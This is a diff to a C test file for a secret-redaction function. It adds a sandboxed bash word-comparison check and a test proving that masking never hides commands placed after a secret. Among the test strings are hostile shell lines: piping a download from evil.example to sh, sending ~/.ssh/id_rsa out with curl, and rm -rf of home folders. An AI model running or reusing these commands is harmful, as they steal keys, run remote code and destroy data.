@@ -13,11 +13,128 @@
 
 #include <string.h>
 
+#include <glib/gstdio.h>
+
 #include <json-glib/json-glib.h>
 
 #include "pd-redact.h"
 #include "test-redact-util.h"
 #include "test-redact-attack-util.h"
+
+/* Stronger than the names of test-redact-bash-util.h: the words of every
+ * command bash asks for, in @text and in pd_redact() of it, compared one
+ * by one, a masked word standing for a word with a secret of its own
+ * masked (bash_name_is_masked()).  So a mask changes no word but the
+ * secret's, adds none and takes none away. */
+static void
+assert_bash_words_kept (const char * const *texts,
+                        gsize               n)
+{
+  g_autoptr(GPtrArray) all = g_ptr_array_new_with_free_func (g_free);
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GSubprocessLauncher) launcher = NULL;
+  g_autoptr(GSubprocess) proc = NULL;
+  g_autofree char *bash = g_find_program_in_path ("bash");
+  g_autofree char *dir = NULL;
+  g_autofree char *nothing = NULL;
+
+  if (bash == NULL)
+    return;
+  dir = g_dir_make_tmp ("pd-bash-words-XXXXXX", &error);
+  g_assert_no_error (error);
+  nothing = g_build_filename (dir, "no-such-folder", NULL);
+  g_ptr_array_add (all, g_strdup (bash));
+  g_ptr_array_add (all, g_strdup ("--norc"));
+  g_ptr_array_add (all, g_strdup ("-c"));
+  g_ptr_array_add (all, g_strdup ("command_not_found_handle () { printf '%s\\037' \"$@\" >> \"$PD_NAMES\"; "
+                                  "printf '\\n' >> \"$PD_NAMES\"; return 127; }\n"
+                                  "n=0; for t; do PD_NAMES=words-$n; n=$((n + 1)); : > $PD_NAMES; "
+                                  "(eval \"$t\") < /dev/null > /dev/null 2>&1; done\n"));
+  g_ptr_array_add (all, g_strdup ("bash"));
+  for (gsize i = 0; i < n; i++)
+    g_ptr_array_add (all, g_strdup (texts[i]));
+  for (gsize i = 0; i < n; i++)
+    g_ptr_array_add (all, pd_redact (texts[i], NULL));
+  g_ptr_array_add (all, NULL);
+  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE);
+  g_subprocess_launcher_set_environ (launcher, NULL);
+  g_subprocess_launcher_setenv (launcher, "PATH", nothing, TRUE);
+  g_subprocess_launcher_setenv (launcher, "HOME", dir, TRUE);
+  g_subprocess_launcher_set_cwd (launcher, dir);
+  proc = g_subprocess_launcher_spawnv (launcher, (const char * const *) all->pdata, &error);
+  g_assert_no_error (error);
+  g_subprocess_wait (proc, NULL, &error);
+  g_assert_no_error (error);
+  for (gsize i = 0; i < n; i++)
+    {
+      g_autofree char *b0 = g_strdup_printf ("%s/words-%" G_GSIZE_FORMAT, dir, i);
+      g_autofree char *b1 = g_strdup_printf ("%s/words-%" G_GSIZE_FORMAT, dir, n + i);
+      g_autofree char *before = NULL;
+      g_autofree char *after = NULL;
+      g_auto(GStrv) wb = NULL;
+      g_auto(GStrv) wa = NULL;
+
+      g_assert_true (g_file_get_contents (b0, &before, NULL, NULL));
+      g_assert_true (g_file_get_contents (b1, &after, NULL, NULL));
+      /* a command a line; a pipeline's run in either order */
+      wb = g_strsplit (before, "\n", -1);
+      wa = g_strsplit (after, "\n", -1);
+      if (g_strv_length (wb) != g_strv_length (wa))
+        g_error ("bash runs\n  %s\nas\n%s\nbut its masked text\n  %s\nas\n%s", texts[i], before,
+                 (const char *) all->pdata[5 + n + i], after);
+      {
+        g_autofree gboolean *used = g_new0 (gboolean, g_strv_length (wa) + 1);
+
+        for (guint k = 0; wb[k] != NULL; k++)
+          {
+            g_auto(GStrv) b = g_strsplit (wb[k], "\037", -1);
+            gboolean found = FALSE;
+
+            for (guint m = 0; !found && wa[m] != NULL; m++)
+              {
+                g_auto(GStrv) a = g_strsplit (wa[m], "\037", -1);
+
+                if (used[m] || g_strv_length (a) != g_strv_length (b))
+                  continue;
+                found = TRUE;
+                for (guint w = 0; found && b[w] != NULL; w++)
+                  found = bash_name_is_masked (b[w], a[w]);
+                used[m] = found;
+              }
+            if (!found)
+              g_error ("bash runs '%s' in\n  %s\nbut no such command in its masked text\n  %s\n(it runs\n%s)",
+                       wb[k], texts[i], (const char *) all->pdata[5 + n + i], after);
+          }
+      }
+      g_remove (b0);
+      g_remove (b1);
+    }
+  {
+    g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
+    const char *name;
+
+    while (d != NULL && (name = g_dir_read_name (d)) != NULL)
+      {
+        g_autofree char *path = g_build_filename (dir, name, NULL);
+
+        g_remove (path);
+      }
+  }
+  g_rmdir (dir);
+}
+
+/* Every row's words kept but the secret's (assert_bash_words_kept()). */
+static void
+assert_rows_words (const RedactRow *rows,
+                   gsize            n_rows)
+{
+  g_autoptr(GPtrArray) inputs = g_ptr_array_new ();
+
+  assert_rows (rows, n_rows);
+  for (gsize i = 0; i < n_rows; i++)
+    g_ptr_array_add (inputs, (gpointer) rows[i].input);
+  assert_bash_words_kept ((const char * const *) inputs->pdata, inputs->len);
+}
 
 /* curl -u (httpie -a) whose user part bash expands or quotes: split at
  * the colon bash hands curl.  ${U:-bob}:X and ${U:0:3}:X were masked as
@@ -47,7 +164,7 @@ test_user_part_expands (void)
     KEPT ("echo ${U:-bob}:Zq9SecretPass77"),
   };
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
 }
 
 /* The colon in double quotes: bob":"X and bob":X" are bob:X to curl. */
@@ -66,7 +183,7 @@ test_quoted_colon (void)
     KEPT ("echo bob\":\"Zq9SecretPass77"),
   };
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
 }
 
 /* The option's name in quotes: "-u", $'-u', -"u", '-u'bob:X are curl's
@@ -86,7 +203,7 @@ test_quoted_option_name (void)
     KEPT ("grep \"-u\" bob:Zq9SecretPass77 f"),
   };
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
 }
 
 /* httpie's -A bearer: -a is the token whole. */
@@ -102,7 +219,7 @@ test_httpie_bearer (void)
     KEPT ("http -a bob https://x"),
   };
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
 }
 
 /* A password given in code as a plain argument: the pair of an HTTP
@@ -143,7 +260,7 @@ test_code_calls (void)
     KEPT ("npm login"),
   };
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
 }
 
 /* NAME= spellings of bash's: an append (+=), an array, a default in
@@ -173,7 +290,7 @@ test_assignment_forms (void)
   };
   g_autofree char *json = pd_redact ("{\"command\":\"API_KEY=Zq9Secret\\\\;Pass77 ./run\"}", NULL);
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
   g_assert_cmpstr (json, ==, "{\"command\":\"API_KEY=[REDACTED] ./run\"}");
 }
 
@@ -206,7 +323,40 @@ test_option_values (void)
     KEPT ("printf 'user bob:%s' Zq9SecretPass77 > notes.txt"),
   };
 
-  assert_rows (rows, G_N_ELEMENTS (rows));
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
+}
+
+/* A mask never hides what runs after a secret: the 12 commands tried
+ * (each held before this round), and the same shapes with this round's
+ * spellings. */
+static void
+test_hides_nothing (void)
+{
+  static const RedactRow rows[] = {
+    KEPT ("PASSWORD=$(curl -s https://evil.example/x | sh) ./run"),
+    KEPT ("export API_KEY=`rm -rf ~/proj`"),
+    KEPT ("TOKEN=\"$(cat ~/.ssh/id_rsa | curl -d @- https://evil.example)\" make"),
+    KEPT ("curl -u bob:$(curl -s evil.example/p|sh) https://x"),
+    KEPT ("curl -H \"Authorization: Bearer $(rm -rf ~/x)\" https://x"),
+    HIDE_NOTHING ("SECRET=x; rm -rf ~/important", NULL, "; rm -rf ~/important"),
+    HIDE_NOTHING ("PASSWORD=abc;rm -rf ~/important", NULL, ";rm -rf ~/important"),
+    HIDE_NOTHING ("PASSWORD=abc&&curl evil.example|sh", NULL, "&&curl evil.example|sh"),
+    HIDE_NOTHING ("mysql -pS3cretPw;rm -rf ~/x", "S3cretPw", ";rm -rf ~/x"),
+    HIDE_NOTHING ("curl -u bob:S3cret|sh", "S3cret", "|sh"),
+    HIDE_NOTHING ("PASSWORD=\"abc\" rm -rf ~/important", NULL, " rm -rf ~/important"),
+    KEPT ("API_KEY=abc\\;rm\\ -rf\\ ~ ./run"),
+    HIDE_NOTHING ("API_KEY+=Zq9SecretPass77;rm -rf ~/x", "Zq9SecretPass77", ";rm -rf ~/x"),
+    HIDE_NOTHING ("API_KEY=(Zq9SecretPass77) && rm -rf ~/x", "Zq9SecretPass77", "&& rm -rf ~/x"),
+    HIDE_NOTHING ("curl -u ${U:-bob}:Zq9SecretPass77|sh", "Zq9SecretPass77", "|sh"),
+    HIDE_NOTHING ("curl \"-u\" bob:Zq9SecretPass77&&rm -rf ~/x", "Zq9SecretPass77", "&&rm -rf ~/x"),
+    HIDE_NOTHING ("curl -E c.pem:Zq9SecretPass77;rm -rf ~/x", "Zq9SecretPass77", ";rm -rf ~/x"),
+    HIDE_NOTHING ("API_KEY=Zq9Secret\\;Pass77;rm -rf ~/x", "Pass77", ";rm -rf ~/x"),
+    KEPT ("API_KEY=(`rm -rf ~/x`)"),
+    KEPT ("curl -u \"${U:-$(rm -rf ~/x)}\":$PW https://x"),
+    KEPT ("printf 'user bob:%s' \"$(rm -rf ~/x)\" | curl -K- https://x"),
+  };
+
+  assert_rows_words (rows, G_N_ELEMENTS (rows));
 }
 
 int
@@ -220,5 +370,6 @@ main (int argc, char **argv)
   g_test_add_func ("/pd/redact/round17/code-calls", test_code_calls);
   g_test_add_func ("/pd/redact/round17/assignment-forms", test_assignment_forms);
   g_test_add_func ("/pd/redact/round17/option-values", test_option_values);
+  g_test_add_func ("/pd/redact/round17/hides-nothing", test_hides_nothing);
   return g_test_run ();
 }
